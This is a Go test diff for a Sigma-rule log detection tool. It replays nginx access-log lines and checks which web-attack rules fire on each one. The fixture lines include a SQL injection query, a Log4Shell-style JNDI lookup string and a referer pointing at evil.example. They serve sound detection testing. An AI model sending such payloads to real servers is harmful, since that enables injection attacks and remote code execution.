@@ -359,3 +359,33 @@ func TestSigmaConvertUsage(t *testing.T) {
 		t.Errorf("sigma without convert: exit %d, want %d", code, exitUsage)
 	}
 }
+
+// nginxPattern reads nginx's combined format with $time_iso8601 into the
+// webserver pipeline's field names; the outer group keeps the whole line
+// for keywords. docs/sigma.md shows the same pattern.
+const nginxPattern = `^(?P<line>(?P<client_ip>\S+) - (?P<user>\S+) \[(?P<time>[^\]]+)\] "(?P<method>\S+) (?P<path>[^ ?"]*)(?:\?(?P<query>[^ "]*))? (?P<protocol>[^"]*)" (?P<status>\d{3}) (?P<bytes_sent>\d+) "(?P<referer>[^"]*)" "(?P<user_agent>[^"]*)")$`
+
+func TestSigmaWebserverPipelineOnNginx(t *testing.T) {
+	rules := sigmaConvert(t, t.TempDir(), "--pipeline", "webserver", "../../testdata/sigma/web")
+	lines := []string{
+		`203.0.113.7 - - [2026-12-07T12:00:00+00:00] "GET /search?q=1%20UNION%20SELECT%20pw HTTP/1.1" 200 512 "-" "Mozilla/5.0"`,
+		`203.0.113.7 - - [2026-12-07T12:00:01+00:00] "GET /union%20select HTTP/1.1" 404 0 "-" "Mozilla/5.0"`,
+		`203.0.113.7 - - [2026-12-07T12:00:02+00:00] "GET / HTTP/1.1" 200 512 "https://evil.example/x" "Mozilla/5.0"`,
+		`203.0.113.7 - - [2026-12-07T12:00:03+00:00] "GET / HTTP/1.1" 200 512 "${jndi:ldap://x/a}" "Mozilla/5.0"`,
+	}
+	in := writeFile(t, t.TempDir(), "access.log", strings.Join(lines, "\n")+"\n")
+	out, errb, code := secwatch(t, "", "replay", "--rules", rules, "--format", "regex", "--pattern", nginxPattern, "--output", "json", "--strict", in)
+	if code != exitOK {
+		t.Fatalf("replay: %d %s", code, errb)
+	}
+	alerts := parseAlerts(t, out)
+	for rule, want := range map[string][]float64{
+		"5e0a2c1d-0b7e-4f3a-9d41-7b1c0e2f9a01": {0}, // query only
+		"5e0a2c1d-0b7e-4f3a-9d41-7b1c0e2f9a04": {2}, // the referer exists in these logs
+		"5e0a2c1d-0b7e-4f3a-9d41-7b1c0e2f9a02": {3}, // keywords search the whole line
+	} {
+		if got := firedAt(t, alerts, rule); !slices.Equal(got, want) {
+			t.Errorf("%s fired at %v, want %v", rule, got, want)
+		}
+	}
+}
